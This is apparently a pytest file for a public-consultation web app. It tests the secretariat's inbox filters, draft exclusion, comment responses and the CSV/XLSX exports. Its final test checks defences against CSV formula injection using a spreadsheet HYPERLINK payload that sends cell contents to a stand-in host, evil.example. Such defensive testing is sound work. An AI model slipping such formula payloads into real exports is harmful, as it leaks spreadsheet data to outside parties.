"""The secretariat's inbox filters, and exports whose rows match the submissions."""

import csv
import io

from openpyxl import load_workbook

from consultations import actions
from consultations.actions import DraftContent


def _submit(viewer, consultation, text, anchor="policy-laws", confidentiality="attributed"):
    submission = actions.do_start_submission(viewer, consultation, "organisation")
    content = DraftContent(comments={anchor: (text, "")}, confidentiality=confidentiality)
    submission = actions.do_save_draft(
        viewer, submission, version=submission.version, content=content
    )
    return actions.do_submit(viewer, submission)


def test_inbox_filters_by_paragraph_and_country(world, viewer, client_for):
    _submit(viewer("cso_a"), world.consultation, "Thai CSO on laws.")
    _submit(viewer("cso_b"), world.consultation, "Cambodian CSO on MoUs.", anchor="policy-mou")
    client = client_for("secretariat")
    inbox = f"/consultations/{world.consultation.pk}/inbox/"
    everything = client.get(inbox).content.decode()
    assert "Thai CSO on laws." in everything
    assert "Cambodian CSO on MoUs." in everything
    by_country = client.get(inbox, {"country": "KH"}).content.decode()
    assert "Cambodian CSO on MoUs." in by_country
    assert "Thai CSO on laws." not in by_country
    by_paragraph = client.get(inbox, {"paragraph": "policy-laws"}).content.decode()
    assert "Thai CSO on laws." in by_paragraph
    assert "Cambodian CSO on MoUs." not in by_paragraph
    assert "Thai CSO" not in client.get(inbox, {"organisation_type": "youth"}).content.decode()


def test_drafts_stay_out_of_the_inbox(world, viewer, client_for):
    submission = actions.do_start_submission(viewer("cso_a"), world.consultation, "organisation")
    actions.do_save_draft(
        viewer("cso_a"),
        submission,
        version=1,
        content=DraftContent(comments={"policy-laws": ("Unsent draft.", "")}),
    )
    body = client_for("secretariat").get(f"/consultations/{world.consultation.pk}/inbox/")
    assert "Unsent draft." not in body.content.decode()


def test_csv_and_xlsx_rows_match_the_submissions(world, viewer, client_for):
    _submit(viewer("cso_a"), world.consultation, "Confidential one.", confidentiality="secretariat")
    _submit(viewer("cso_b"), world.consultation, "Public one.")
    client = client_for("secretariat")
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get(f"/consultations/{world.consultation.pk}/export.csv").content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert {(row["Submitter"], row["Comment"], row["Confidentiality"]) for row in rows} == {
        ("Org A", "Confidential one.", "Secretariat only (never published)"),
        ("Org B", "Public one.", "Publishable with attribution"),
    }
    xlsx = client.get(f"/consultations/{world.consultation.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Comments"]
    values = list(sheet.values)
    assert len(values) == 3
    assert {row[10] for row in values[1:]} == {"Confidential one.", "Public one."}


def test_responding_from_the_inbox(world, viewer, client_for):
    submission = _submit(viewer("cso_b"), world.consultation, "Public one.")
    comment = submission.comments.get()
    client = client_for("secretariat")
    url = f"/consultations/{world.consultation.pk}/inbox/{comment.pk}/respond/"
    bad = client.post(url, {"outcome": "accepted", "explanation": ""})
    assert bad.status_code == 400
    good = client.post(url, {"outcome": "partly", "explanation": "Partly taken up."})
    assert good.status_code == 302
    comment.refresh_from_db()
    assert comment.response.get_outcome_display() == "Partly accepted"
    assert (
        client_for("cso_b").post(url, {"outcome": "accepted", "explanation": "x"}).status_code
        == 404
    )


def test_exported_text_never_becomes_a_formula(world, viewer, client_for):
    """OWASP CSV injection: typed text that starts with = + - @ must open as text."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    _submit(viewer("cso_a"), world.consultation, payload)
    _submit(viewer("cso_b"), world.consultation, "@SUM(1+1)", anchor="policy-mou")
    client = client_for("secretariat")
    text = client.get(f"/consultations/{world.consultation.pk}/export.csv").content.decode(
        "utf-8-sig"
    )
    comments = {row["Comment"] for row in csv.DictReader(io.StringIO(text))}
    assert comments == {"'" + payload, "'@SUM(1+1)"}
    xlsx = client.get(f"/consultations/{world.consultation.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Comments"]
    cells = [row[10] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in cells} == {payload, "@SUM(1+1)"}
    # Stored as strings: a spreadsheet program shows them, it does not run them.
    assert {cell.data_type for cell in cells} == {"s"}
